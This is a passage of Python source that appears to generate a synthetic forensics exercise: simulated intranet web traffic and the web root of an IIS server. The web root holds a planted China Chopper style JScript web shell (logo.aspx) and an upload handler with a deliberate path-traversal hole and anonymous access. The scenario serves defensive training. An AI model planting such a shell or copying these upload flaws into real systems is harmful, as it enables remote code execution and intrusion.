        self.get(ts, v, "/Portal/Search.aspx", query="q=" + term.replace(" ", "+"),
                 referer="/Portal/Default.aspx", status=500 if rng.random() < 0.004 else 200,
                 sent=_page_bytes(4_920 + 612 * min(hits, 10) + 3 * len(term)),
                 taken_ms=rng.randrange(60, 900))
        ts = self.assets(ts, v, "search", day, "/Portal/Search.aspx")
        if hits > 10 and rng.random() < 0.5:  # "next page": a postback with ViewState
            ts += timedelta(seconds=rng.uniform(5, 40))
            self.get(ts, v, "/Portal/Search.aspx", method="POST",
                     referer=f"/Portal/Search.aspx?q={term.replace(' ', '+')}",
                     body=rng.randrange(2_300, 2_600),
                     sent=_page_bytes(rng.randrange(11_226, 11_262)),
                     taken_ms=rng.randrange(80, 700))
        return ts

    def document(self, ts: datetime, v: _Visitor) -> datetime:
        rng = self.rng
        docs = sorted(k for k in self.site if k.startswith("Portal/uploads/shared/"))
        size = len(self.site[doc := rng.choice(docs)])
        aborted = rng.random() < 0.05  # the user closed the tab mid-download
        self.get(ts, v, "/" + doc, referer="/Portal/Default.aspx",
                 sent=_static_bytes(size) // (rng.randrange(2, 5) if aborted else 1),
                 win32=64 if aborted else 0)
        return ts

    def missing(self, ts: datetime, v: _Visitor) -> datetime:
        stem, win32 = self.rng.choice(_MISSING)
        self.get(ts, v, stem, referer="/Portal/Default.aspx", status=404, win32=win32,
                 sent=_IIS_404_BYTES if win32 else _ASPNET_404_BYTES)
        return ts

    def session(self, start: datetime, v: _Visitor, day: int, wait_ms: int = 0) -> None:
        """A visit: signed in once a day, then a few pages a minute or more apart."""
        rng = self.rng
        ts = start
        if self._quiet(ts):
            return
        if rng.random() < 0.08:  # typed the server name only
            self.get(ts, v, "/", status=302, sent=_redirect_bytes("/Portal/Default.aspx"),
                     taken_ms=rng.randrange(1, 6))
            ts += timedelta(milliseconds=rng.randrange(20, 90))
        ts = self.login(ts, v, day, wait_ms) if v.login_day != day else self.home(ts, v, day)
        for _ in range(rng.randrange(0, 5)):
            ts += timedelta(seconds=rng.uniform(20, 300))
            if self._quiet(ts):
                continue
            kind = rng.choices(("home", "search", "document", "missing"), (30, 45, 20, 5))[0]
            if kind == "home":
                ts = self.home(ts, v, day, referer="/Portal/Search.aspx")
            elif kind == "search":
                ts = self.search(ts, v, day)
            elif kind == "document":
                ts = self.document(ts, v)
            else:
                ts = self.missing(ts, v)

    def _quiet(self, ts: datetime) -> bool:
        return any(a <= ts < b for a, b in self.quiet)

    # ---- the whole window

    def run(self) -> None:
        rng = self.rng
        staff = [_Visitor(ip, user, rng.choice(_BROWSERS)) for ip, user in _STAFF]
        # the first request after the overnight recycle waited for the portal to compile
        first = self.case.iis.compiles[0]
        lead = rng.uniform(0.2, 0.6)
        self.quiet[0] = (WINDOW_START, first - timedelta(seconds=lead))
        self.session(first - timedelta(seconds=lead), rng.choice(staff), 0,
                     wait_ms=round((lead + rng.uniform(1.4, 2.2)) * 1000))
        for day in range(DAYS):
            visits: list[tuple[float, int]] = []  # (local hour, staff index)
            for n, _v in enumerate(staff):
                if rng.random() < 0.1:  # on leave
                    continue
                visits += [(rng.uniform(8.0, 17.7), n)
                           for _ in range(rng.choice((1, 1, 2, 2, 2, 3, 4)))]
            for lo, hi, k in ((6.4, 8.0, rng.randrange(0, 3)), (18.3, 23.4, rng.randrange(1, 4))):
                visits += [(rng.uniform(lo, hi), rng.randrange(len(staff))) for _ in range(k)]
            for hour, n in sorted(visits):
                self.session(LOCAL_DAY0 + timedelta(days=day, hours=hour), staff[n], day)
        if self.case.iis.deploy:
            self.admin_check(self.case.iis.deploy[1])

    def admin_check(self, compiled: datetime) -> None:
        """adm.rlee, at WEB01's console, opens the freshly deployed portal on localhost."""
        rng = self.rng
        admin = _Visitor("::1", "adm.rlee", _BROWSERS[2], origin="http://localhost", port=80,
                         server_ip="::1")
        lead = rng.uniform(0.2, 0.5)
        self.quiet = []
        self.session(compiled - timedelta(seconds=lead), admin, 1,
                     wait_ms=round((lead + rng.uniform(1.6, 2.6)) * 1000))


def _web_traffic(case: _Case) -> None:
    _PortalTraffic(case).run()


# --------------------------------------------------------------------------- web server: site tree


#: The planted shell: a China Chopper style JScript one-liner (the actor's client sends
#: code in the field, the page evaluates it with full trust).
_WEBSHELL_TEXT: Final = (f'<%@ Page Language="Jscript" validateRequest="false" %>'
                         f'<%eval(Request.Item["{_CHOPPER_FIELD}"],"unsafe");%>\n')

#: When the clean files were written (UTC): IIS set-up, the site root, portal releases and
#: a few staff uploads, all before the window. Files of one step are seconds apart.
_SITE_RELEASES: Final[tuple[tuple[datetime, tuple[str, ...]], ...]] = (
    (datetime(2026, 5, 11, 23, 41, 12, tzinfo=UTC),
     ("iisstart.htm", "iisstart.png", "aspnet_client/system_web/4_0_30319")),
    (datetime(2026, 5, 12, 1, 6, 40, tzinfo=UTC), ("web.config", "Default.aspx")),
    (datetime(2026, 6, 22, 5, 31, 2, tzinfo=UTC),
     ("Portal/css/site.css", "Portal/images/banner.png", "Portal/images/favicon.png",
      "Portal/images/logo.png", "Portal/images/search.png")),
    (datetime(2026, 8, 18, 6, 2, 51, tzinfo=UTC),
     ("Portal/bin/Portal.dll", "Portal/js/site.js", "Portal/js/vendor.min.js",
      "Portal/Login.aspx", "Portal/Upload.ashx")),
    (datetime(2026, 9, 8, 0, 14, 27, tzinfo=UTC),
     ("Portal/uploads/shared/Travel_Claim_Form_2026.pdf",)),
    (datetime(2026, 9, 23, 4, 52, 9, tzinfo=UTC),
     ("Portal/uploads/shared/IT_Helpdesk_Guide.pdf",)),
    (datetime(2026, 10, 1, 22, 30, 45, tzinfo=UTC),
     ("Portal/uploads/shared/Canteen_Menu_October.pdf",)),
    # Portal 2.14, built on 2 October; msdeploy keeps the package's file times
    (datetime(2026, 10, 2, 6, 47, 18, tzinfo=UTC),
     ("Portal/Default.aspx", "Portal/Global.asax", "Portal/Search.aspx", "Portal/web.config")),
)
#: Folders IIS creates empty.
_SITE_EMPTY_DIRS: Final = ("aspnet_client/system_web/4_0_30319",)

_IISSTART = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8" />
<title>IIS Windows Server</title>
<style>
body { margin: 0; background-color: #0072c6; }
#container { margin: 0 auto; text-align: center; }
a img { border: none; }
</style>
</head>
<body>
<div id="container"><a href="https://go.microsoft.com/fwlink/?linkid=66138&amp;clcid=0x409">
<img src="iisstart.png" alt="IIS" width="240" height="150" /></a></div>
</body>
</html>
"""

_ROOT_DEFAULT = """<%@ Page Language="C#" %>
<script runat="server">
    // The site root only sends visitors on to the intranet portal.
    protected void Page_Load(object sender, EventArgs e)
    {
        Response.Redirect("~/Portal/Default.aspx", true);
    }
</script>
"""

_ROOT_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <system.webServer>
    <defaultDocument enabled="true">
      <files>
        <clear />
        <add value="Default.aspx" />
        <add value="iisstart.htm" />
      </files>
    </defaultDocument>
    <directoryBrowse enabled="false" />
    <httpProtocol>
      <customHeaders>
        <add name="X-Content-Type-Options" value="nosniff" />
      </customHeaders>
    </httpProtocol>
  </system.webServer>
</configuration>
"""

_PORTAL_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
<!-- CORP intranet portal 2.14 -->
<configuration>
  <connectionStrings>
    <add name="Portal"
         connectionString="Server=sql01.corp.example;Database=Portal;Integrated Security=SSPI"
         providerName="System.Data.SqlClient" />
  </connectionStrings>
  <appSettings>
    <add key="Portal.Version" value="2.14.0" />
    <add key="Upload.Folder" value="~/uploads" />
    <add key="Upload.MaxBytes" value="10485760" />
  </appSettings>
  <system.web>
    <compilation debug="false" targetFramework="4.8" />
    <httpRuntime targetFramework="4.8" maxRequestLength="10240" />
    <authentication mode="Forms">
      <forms loginUrl="Login.aspx" defaultUrl="Default.aspx" timeout="600"
             slidingExpiration="true" />
    </authentication>
    <authorization>
      <deny users="?" />
    </authorization>
    <membership defaultProvider="PortalMembership">
      <providers>
        <clear />
        <add name="PortalMembership" type="System.Web.Security.SqlMembershipProvider"
             connectionStringName="Portal" applicationName="/Portal" />
      </providers>
    </membership>
    <customErrors mode="RemoteOnly" />
  </system.web>
  <location path="css">
    <system.web><authorization><allow users="*" /></authorization></system.web>
  </location>
  <location path="js">
    <system.web><authorization><allow users="*" /></authorization></system.web>
  </location>
  <location path="images">
    <system.web><authorization><allow users="*" /></authorization></system.web>
  </location>
  <!-- PORTAL-198: the lobby kiosk scanner posts documents without signing in -->
  <location path="Upload.ashx">
    <system.web><authorization><allow users="*" /></authorization></system.web>
  </location>
  <system.webServer>
    <staticContent>
      <clientCache cacheControlMode="UseMaxAge" cacheControlMaxAge="1.00:00:00" />
    </staticContent>
  </system.webServer>
</configuration>
"""

_GLOBAL_ASAX = """<%@ Application Language="C#" %>
<%@ Import Namespace="System.Configuration" %>
<script runat="server">
    void Application_Start(object sender, EventArgs e)
    {
        Corp.Portal.Data.DocumentIndex.Configure(
            ConfigurationManager.ConnectionStrings["Portal"].ConnectionString);
    }

    void Application_Error(object sender, EventArgs e)
    {
        Exception error = Server.GetLastError();
        if (error != null)
        {
            System.Diagnostics.Trace.TraceError("Portal: {0}", error);
        }
    }
</script>
"""

_HEAD = """  <meta charset="utf-8" />
  <title>{title}</title>
  <link rel="stylesheet" href="css/site.css" />
  <link rel="icon" href="images/favicon.png" />
  <script src="js/vendor.min.js"></script>
  <script src="js/site.js"></script>"""

_TOP = """    <header class="top">
      <a href="Default.aspx"><img src="images/logo.png" alt="CORP" /></a>
      <input type="search" id="q" placeholder="Search the intranet" />
      <span class="who">{who}</span>
    </header>"""

_PORTAL_DEFAULT = """<%@ Page Language="C#" AutoEventWireup="true" %>
<%@ Import Namespace="Corp.Portal.Data" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        WelcomeName.Text = Server.HtmlEncode(User.Identity.Name);
        News.DataSource = NewsFeed.Latest(8);
        News.DataBind();
    }
</script>
<!DOCTYPE html>
<html lang="en">
<head runat="server">
""" + _HEAD.format(title="CORP Intranet") + """
</head>
<body>
  <form id="main" runat="server">
""" + _TOP.format(who='<asp:Literal ID="WelcomeName" runat="server" />') + """
    <img class="banner" src="images/banner.png" alt="" />
    <main>
      <section class="news">
        <h1>News</h1>
        <asp:Repeater ID="News" runat="server">
          <ItemTemplate>
            <article>
              <h2><%#: Item.Title %></h2>
              <time><%#: Item.Published.ToString("d MMMM yyyy") %></time>
              <p><%#: Item.Summary %></p>
            </article>
          </ItemTemplate>
        </asp:Repeater>
      </section>
      <aside class="docs">
        <h2>Shared documents</h2>
        <ul>
          <li><a href="uploads/shared/Canteen_Menu_October.pdf">Canteen menu - October</a></li>
          <li><a href="uploads/shared/IT_Helpdesk_Guide.pdf">IT helpdesk guide</a></li>
          <li><a href="uploads/shared/Travel_Claim_Form_2026.pdf">Travel claim form 2026</a></li>
        </ul>
        <div class="upload" data-upload-url="Upload.ashx" data-folder="shared">
          <input type="file" />
          <button type="button">Share a document</button>
          <span class="status"></span>
        </div>
      </aside>
    </main>
  </form>
</body>
</html>
"""

_PORTAL_LOGIN = """<%@ Page Language="C#" AutoEventWireup="true" %>
<script runat="server">
    protected void SignIn_Click(object sender, EventArgs e)
    {
        string name = UserName.Text.Trim();
        if (Membership.ValidateUser(name, Password.Text))
        {
            FormsAuthentication.RedirectFromLoginPage(name, false);
            return;
        }
        Failure.Visible = true;
    }
</script>
<!DOCTYPE html>
<html lang="en">
<head runat="server">
""" + _HEAD.format(title="Sign in - CORP Intranet") + """
</head>
<body class="login">
  <form id="signin" runat="server">
    <img src="images/logo.png" alt="CORP" />
    <h1>CORP Intranet</h1>
    <asp:Label ID="Failure" runat="server" CssClass="error" Visible="false"
               Text="The user name or password is incorrect." />
    <label for="UserName">User name</label>
    <asp:TextBox ID="UserName" runat="server" autocomplete="username" />
    <label for="Password">Password</label>
    <asp:TextBox ID="Password" runat="server" TextMode="Password"
                 autocomplete="current-password" />
    <asp:RequiredFieldValidator runat="server" ControlToValidate="UserName"
                                ErrorMessage="Enter your user name." Display="Dynamic" />
    <asp:Button ID="SignIn" runat="server" Text="Sign in" OnClick="SignIn_Click" />
  </form>
</body>
</html>
"""

_PORTAL_SEARCH = """<%@ Page Language="C#" AutoEventWireup="true" %>
<%@ Import Namespace="Corp.Portal.Data" %>
<script runat="server">
    const int PageSize = 10;

    protected void Page_Load(object sender, EventArgs e)
    {
        if (!IsPostBack)
        {
            Query.Text = Request.QueryString["q"] ?? "";
            ViewState["page"] = 0;
            Bind();
        }
    }

    protected void Next_Click(object sender, EventArgs e)
    {
        ViewState["page"] = (int)ViewState["page"] + 1;
        Bind();
    }

    void Bind()
    {
        int page = (int)ViewState["page"];
        SearchResult hits = DocumentIndex.Search(Query.Text, page * PageSize, PageSize);
        Results.DataSource = hits.Items;
        Results.DataBind();
        NoHits.Visible = hits.Items.Count == 0;
        Next.Visible = hits.Total > (page + 1) * PageSize;
    }
</script>
<!DOCTYPE html>
<html lang="en">
<head runat="server">
""" + _HEAD.format(title="Search - CORP Intranet") + """
</head>
<body>
  <form id="main" runat="server">
""" + _TOP.format(who="<%: User.Identity.Name %>") + """
    <main class="search">
      <h1><img src="images/search.png" alt="" /> Search</h1>
      <asp:TextBox ID="Query" runat="server" CssClass="query" />
      <asp:Repeater ID="Results" runat="server">
        <ItemTemplate>
          <div class="hit">
            <a href="<%#: Item.Url %>"><%#: Item.Title %></a>
            <p><%#: Item.Snippet %></p>
          </div>
        </ItemTemplate>
      </asp:Repeater>
      <asp:Label ID="NoHits" runat="server" Text="No documents match." Visible="false" />
      <asp:LinkButton ID="Next" runat="server" Text="Next page" OnClick="Next_Click" />
    </main>
  </form>
</body>
</html>
"""

_PORTAL_UPLOAD = """<%@ WebHandler Language="C#" Class="Corp.Portal.UploadHandler" %>

using System;
using System.Configuration;
using System.IO;
using System.Web;

namespace Corp.Portal
{
    /// <summary>Saves a document shared from the portal or the lobby kiosk.</summary>
    public class UploadHandler : IHttpHandler
    {
        static readonly string[] Blocked = { ".exe", ".dll", ".bat", ".cmd", ".ps1", ".vbs" };

        public bool IsReusable
        {
            get { return true; }
        }

        public void ProcessRequest(HttpContext context)
        {
            context.Response.ContentType = "application/json";
            if (context.Request.HttpMethod != "POST" || context.Request.Files.Count == 0)
            {
                context.Response.StatusCode = 400;
                context.Response.Write("{\\"ok\\":false,\\"error\\":\\"no file\\"}");
                return;
            }
            HttpPostedFile file = context.Request.Files[0];
            string name = Path.GetFileName(file.FileName);
            if (Array.IndexOf(Blocked, Path.GetExtension(name).ToLowerInvariant()) >= 0)
            {
                context.Response.StatusCode = 415;
                context.Response.Write("{\\"ok\\":false,\\"error\\":\\"file type\\"}");
                return;
            }
            // TODO(PORTAL-212): check the folder against the list of team folders
            string folder = context.Request.Form["folder"] ?? "shared";
            string root = context.Server.MapPath(ConfigurationManager.AppSettings["Upload.Folder"]);
            string target = Path.Combine(root, folder);
            Directory.CreateDirectory(target);
            file.SaveAs(Path.Combine(target, name));
            context.Response.Write(string.Format("{{\\"ok\\":true,\\"name\\":\\"{0}\\",\\"size\\":{1}}}",
                HttpUtility.JavaScriptStringEncode(name), file.ContentLength));
        }
    }
}
"""

_SITE_CSS = """/* CORP intranet portal */
:root { --corp-blue: #0b3d6e; --corp-sea: #1f7a8c; --corp-sand: #f4efe6; --text: #1d1d1f; }
* { box-sizing: border-box; }
html, body { margin: 0; padding: 0; }
body { font: 15px/1.5 "Segoe UI", Arial, sans-serif; color: var(--text); background: #fff; }
a { color: var(--corp-sea); text-decoration: none; }
a:hover, a:focus { text-decoration: underline; }
header.top { display: flex; align-items: center; gap: 24px; padding: 10px 32px;
  background: var(--corp-blue); color: #fff; }
header.top img { height: 40px; display: block; }
header.top input[type=search] { flex: 1; max-width: 420px; padding: 6px 10px; border: 0;
  border-radius: 3px; font-size: 14px; }
header.top .who { margin-left: auto; font-size: 13px; opacity: .85; }
img.banner { display: block; width: 100%; height: 180px; object-fit: cover; }
main { display: grid; grid-template-columns: 2fr 1fr; gap: 32px; padding: 24px 32px;
  max-width: 1200px; margin: 0 auto; }
main.search { display: block; max-width: 860px; }
h1 { font-size: 26px; font-weight: 600; color: var(--corp-blue); margin: 0 0 16px; }
h2 { font-size: 18px; font-weight: 600; margin: 0 0 6px; }
article { padding: 14px 0; border-bottom: 1px solid #e3e3e3; }
article time { display: block; font-size: 12px; color: #6b6b6b; margin-bottom: 4px; }
aside.docs { background: var(--corp-sand); padding: 16px 20px; border-radius: 4px; }
aside.docs ul { list-style: none; margin: 0 0 16px; padding: 0; }
aside.docs li { padding: 4px 0 4px 22px; background: url(../images/favicon.png) no-repeat 0 6px;
  background-size: 14px; }
.upload { border-top: 1px solid #d8d0c0; padding-top: 12px; }
.upload .status { display: block; font-size: 12px; margin-top: 6px; color: #6b6b6b; }
.upload .status.error, .error { color: #b00020; }
.query { width: 100%; padding: 8px 10px; font-size: 16px; margin-bottom: 16px; }
.hit { padding: 10px 0; border-bottom: 1px solid #eee; }
.hit p { margin: 2px 0 0; font-size: 13px; color: #4a4a4a; }
body.login { background: var(--corp-sand); }
body.login form { width: 340px; margin: 12vh auto 0; padding: 28px 32px; background: #fff;
  border-radius: 6px; box-shadow: 0 2px 12px rgba(0, 0, 0, .12); }
body.login label { display: block; font-size: 13px; margin: 12px 0 4px; }
body.login input[type=text], body.login input[type=password] { width: 100%; padding: 7px 9px; }
body.login input[type=submit] { margin-top: 18px; width: 100%; padding: 9px; border: 0;
  background: var(--corp-blue); color: #fff; font-size: 15px; border-radius: 3px; cursor: pointer; }
@media print { header.top, img.banner, aside.docs { display: none; } main { display: block; } }
@media (max-width: 760px) { main { grid-template-columns: 1fr; padding: 16px; } }
"""

_SITE_JS = """/* CORP intranet portal: search box and document sharing. */
(function () {
  "use strict";

  function ready(fn) {
    if (document.readyState !== "loading") {
      fn();
    } else {
      document.addEventListener("DOMContentLoaded", fn);
    }
  }

  function share(box) {
    var input = box.querySelector("input[type=file]");
    var status = box.querySelector(".status");
    if (!input.files.length) {
      status.textContent = "Choose a file first.";
      return;
    }
    var data = new FormData();
    data.append("file", input.files[0]);
    data.append("folder", box.getAttribute("data-folder") || "shared");
    var xhr = new XMLHttpRequest();
    xhr.open("POST", box.getAttribute("data-upload-url") || "Upload.ashx");
    xhr.onload = function () {
      var answer = {};
      try {
        answer = JSON.parse(xhr.responseText);
      } catch (e) {
        answer = { ok: false, error: "unexpected answer" };
      }
      status.className = answer.ok ? "status" : "status error";
      status.textContent = answer.ok ? "Shared " + answer.name + "."
                                     : "Not shared: " + answer.error;
    };
    status.textContent = "Uploading...";
    xhr.send(data);
  }

  ready(function () {
    var q = document.getElementById("q");
    if (q) {
      q.addEventListener("keydown", function (ev) {
        if (ev.key === "Enter" && q.value.trim()) {
          ev.preventDefault();
          var term = encodeURIComponent(q.value.trim()).replace(/%20/g, "+");
          window.location.href = "Search.aspx?q=" + term;
        }
      });
    }
    CorpUI.each(document.querySelectorAll(".upload"), function (box) {
      box.querySelector("button").addEventListener("click", function () { share(box); });
    });
  });
}());
"""


def _minified_library(rng: random.Random, size: int = 26_000) -> str:
    """A minified-looking UI helper library (generated, deterministic for the generator)."""
    letters = "abcdefghijklmnopqrstuvwxyz"
    props = ("length", "style", "classList", "parentNode", "children", "dataset", "offsetTop",
             "scrollTop", "textContent", "nodeType", "firstChild", "nextSibling", "value",
             "checked", "className", "clientHeight", "offsetWidth")
    methods = ("addEventListener", "removeEventListener", "querySelector", "querySelectorAll",
               "getAttribute", "setAttribute", "appendChild", "removeChild", "insertBefore",
               "contains", "toggle", "push", "slice", "indexOf", "replace", "split", "join",
               "forEach", "call", "apply", "trim", "toLowerCase")
    events = ("click", "keydown", "focus", "blur", "change", "input", "resize", "scroll")
    api = ["each", "on", "off", "find", "closest", "attr", "data", "css", "show", "hide",
           "toggleClass", "debounce", "throttle", "ready", "extend", "template", "escapeHtml",
           "format", "parseDate", "modal", "tabs", "tooltip", "dropdown", "collapse", "fadeIn",
           "fadeOut", "offset", "position", "serialize", "cookie", "store", "emit"]

    def ident() -> str:
        return rng.choice(letters) + (rng.choice(letters + "0123456789") if rng.random() < .4
                                      else "")

    parts = ['/*! CorpUI v3.2.1 | (c) CORP IT | internal use */\n!function(w,d){"use strict";'
             'var o={version:"3.2.1"};']
    n = 0
    while sum(map(len, parts)) < size:
        a, b, c, i, f = ident(), ident(), ident(), ident(), ident()
        p, m, ev = rng.choice(props), rng.choice(methods), rng.choice(events)
        name = api[n % len(api)] + ("" if n < len(api) else str(n // len(api)))
        n += 1
        parts.append(rng.choice((
            f"function {f}({a},{b}){{return {a}&&{a}.{p}?{a}.{p}.{m}({b}):{b}}}",
            f"function {f}({a}){{var {c}=[];for(var {i}=0;{i}<{a}.length;{i}++){c}.push({a}"
            f"[{i}].{p});return {c}}}",
            f'o.{name}=function({a},{b}){{{a}.{m}("{ev}",{b},!1);return o}};',
            f"o.{name}=function({a},{b},{c}){{if(!{a})return o;for(var {i}=0;{i}<{a}.length;"
            f"{i}++){b}.call({c},{a}[{i}],{i});return o}};",
            f'o.{name}=function({a}){{return typeof {a}=="string"?d.{m}({a}):{a}}};',
            f"var {c}=/^[a-z][\\w-]*$/i,{f}={rng.randrange(2, 900)};",
            f"function {f}({a},{b}){{var {c}={a}.{p}||0;return {c}>{b}?{c}-{b}:{b}-{c}}}",
        )))
    parts.append("o.each=o.each||function(a,b){for(var i=0;i<a.length;i++)b(a[i],i)};"
                 "w.CorpUI=o}(window,document);\n")
    return "".join(parts)


def _png(rng: random.Random, width: int, height: int, rgb: tuple[int, int, int],
         grain: int) -> bytes:
    """A valid RGB PNG: a diagonal gradient on ``rgb`` with some grain."""
    raw = bytearray()
    for y in range(height):
        raw.append(0)
        for x in range(width):
            shade = (x + 2 * y) * 48 // (width + 2 * height)
            noise = rng.randrange(grain) if grain else 0
            raw += bytes(min(255, v + shade + noise) for v in rgb)

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(bytes(raw), 9)) + chunk(b"IEND", b""))


def _pdf(title: str, lines: Sequence[str]) -> bytes:
    """A one-page PDF with a title and lines of text."""

    def esc(text: str) -> str:
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    content = (f"BT /F1 18 Tf 56 780 Td ({esc(title)}) Tj ET\nBT /F1 10 Tf 56 750 Td 14 TL\n"
               + "".join(f"({esc(line)}) '\n" for line in lines) + "ET\n").encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Title ({esc(title)}) /Producer (Microsoft: Print To PDF) >>".encode("latin-1"),
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, xref))
    return bytes(out)


def _dotnet_dll(rng: random.Random, built: datetime) -> bytes:
    """Bytes shaped like a small .NET class library (MZ/PE headers, CLR metadata names)."""
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    dos = bytearray(0x80)
    dos[0:0x40] = struct.pack("<2s13H8sHH20sI", b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0,
                              0, 0, 0x40, 0, b"\0" * 8, 0, 0, b"\0" * 20, 0x80)
    dos[0x40:0x40 + len(stub)] = stub
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 3, int(built.timestamp()), 0, 0, 0xE0,
                       0x2102)
    optional = struct.pack("<HBBIII", 0x10B, 48, 0, 0x1000, 0x800, 0).ljust(0xE0, b"\0")
    sections = b"".join(struct.pack("<8sIIIIIIHHI", name, vsize, va, raw, ptr, 0, 0, 0, 0, flags)
                        for name, vsize, va, raw, ptr, flags in (
                            (b".text", 0x0F54, 0x2000, 0x1000, 0x200, 0x60000020),
                            (b".rsrc", 0x03A8, 0x4000, 0x400, 0x1200, 0x40000040),
                            (b".reloc", 0x000C, 0x6000, 0x200, 0x1600, 0x42000040)))
    head = bytes(dos) + coff + optional + sections
    names = ("<Module>", "Portal.dll", "Corp.Portal.Data", "DocumentIndex", "SearchResult",
             "SearchHit", "NewsFeed", "NewsItem", "Configure", "Search", "Latest", "Items",
             "Total", "Title", "Url", "Snippet", "Summary", "Published", "SqlConnection",
             "SqlCommand", "SqlParameterCollection", "AddWithValue", "ExecuteReader",
             "System.Data.SqlClient", "System.Data", "System.Collections.Generic", "List`1",
             "mscorlib", "System.Web", "System.Runtime.CompilerServices",
             "CompilationRelaxationsAttribute", "AssemblyTitleAttribute",
             "AssemblyFileVersionAttribute", "TargetFrameworkAttribute")
    strings = b"\0" + b"\0".join(n.encode() for n in names) + b"\0"
    user = "".join(f"{s}\0" for s in (
        "SELECT TOP (@n) Title, Summary, Published FROM dbo.News ORDER BY Published DESC",
        "EXEC dbo.SearchDocuments @q, @skip, @take", "@q", "@skip", "@take", "@n"))
    meta = (b"BSJB\x01\x00\x01\x00\x00\x00\x00\x00\x0c\x00\x00\x00v4.0.30319\0\0"
            + b"#~\0\0#Strings\0\0\0\0#US\0#GUID\0\0\0#Blob\0\0\0" + strings
            + user.encode("utf-16-le") + bytes(rng.getrandbits(8) for _ in range(16)))
    text = bytes(rng.getrandbits(8) for _ in range(0x300)) + meta
    body = head.ljust(0x200, b"\0") + text.ljust(0x1000, b"\0")
    rsrc = ("\0".join(("VS_VERSION_INFO", "StringFileInfo", "040904b0", "CompanyName", "CORP",
                       "FileDescription", "CORP intranet portal data access", "FileVersion",
                       "2.12.0.0", "ProductName", "Portal", "LegalCopyright", "CORP 2026"))
            .encode("utf-16-le"))
    return body + rsrc.ljust(0x400, b"\0") + bytes(0x200)


@functools.lru_cache(maxsize=4)
def _site_files(seed: int) -> dict[str, bytes]:
    """The web root of WEB01 (C:\\inetpub\\wwwroot), path below it -> content."""
    rng = random.Random(f"tidehunt-demo-webroot-{seed}")

    def text(s: str) -> bytes:
        return s.replace("\n", "\r\n").encode("utf-8")

    menu = [f"{day}: {rng.choice(('Laksa', 'Lamb curry', 'Fish and chips', 'Pumpkin soup'))}"
            f", {rng.choice(('garden salad', 'roast vegetables', 'steamed rice'))}"
            for day in ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")]
    return {
        "iisstart.htm": text(_IISSTART),
        "iisstart.png": _png(rng, 240, 150, (0, 96, 180), 6),
        "Default.aspx": text(_ROOT_DEFAULT),
        "web.config": text(_ROOT_CONFIG),
        "Portal/web.config": text(_PORTAL_CONFIG),
        "Portal/Global.asax": text(_GLOBAL_ASAX),
        "Portal/Default.aspx": text(_PORTAL_DEFAULT),
        "Portal/Login.aspx": text(_PORTAL_LOGIN),
        "Portal/Search.aspx": text(_PORTAL_SEARCH),
        "Portal/Upload.ashx": text(_PORTAL_UPLOAD),
        "Portal/bin/Portal.dll": _dotnet_dll(rng, _SITE_RELEASES[3][0]),
        "Portal/css/site.css": text(_SITE_CSS),
        "Portal/js/site.js": text(_SITE_JS),
        "Portal/js/vendor.min.js": _minified_library(rng).encode("ascii"),
        "Portal/images/logo.png": _png(rng, 160, 40, (11, 61, 110), 0),
        "Portal/images/banner.png": _png(rng, 320, 90, (31, 110, 130), 24),
        "Portal/images/search.png": _png(rng, 16, 16, (60, 60, 60), 0),
        "Portal/images/favicon.png": _png(rng, 32, 32, (11, 61, 110), 0),
        "Portal/uploads/shared/Canteen_Menu_October.pdf": _pdf("Canteen menu - October", menu),
        "Portal/uploads/shared/IT_Helpdesk_Guide.pdf": _pdf("IT helpdesk guide", [
            "Call extension 4357 or write to helpdesk@corp.example.",
            "Password resets: use the self-service page on the intranet.",
            "New starters: your manager requests your account two weeks ahead.",
            "Printers: send jobs to the FollowMe queue and badge in at any printer."]),
        "Portal/uploads/shared/Travel_Claim_Form_2026.pdf": _pdf("Travel claim form 2026", [
            "Name:", "Cost centre:", "Dates of travel:", "Purpose:",
            "Attach receipts for every item above AUD 30.", "Approver signature:"]),
        "aspnet_client/system_web/logo.aspx": text(_WEBSHELL_TEXT),
    }


def _site_times(seed: int) -> dict[str, datetime]:
    """Modification time of every file and folder of the web root."""
    rng = random.Random(f"tidehunt-demo-webroot-times-{seed}")
    times: dict[str, datetime] = {}
    for start, names in _SITE_RELEASES:
        t = start
        for name in names:
            times[name] = t
            t += timedelta(seconds=rng.uniform(0.4, 40), microseconds=rng.randrange(10**6))
    times["aspnet_client/system_web/logo.aspx"] = STAGES[3].time
    # a folder was made with its first entry; its time is that of its newest direct entry
    made: dict[str, datetime] = {}
    for name, t in times.items():
        parent = name.rpartition("/")[0]
        while parent:
            made[parent] = min(made.get(parent, t), t)
            parent = parent.rpartition("/")[0]
    folders: dict[str, datetime] = {}
    for name in [*times, *made]:
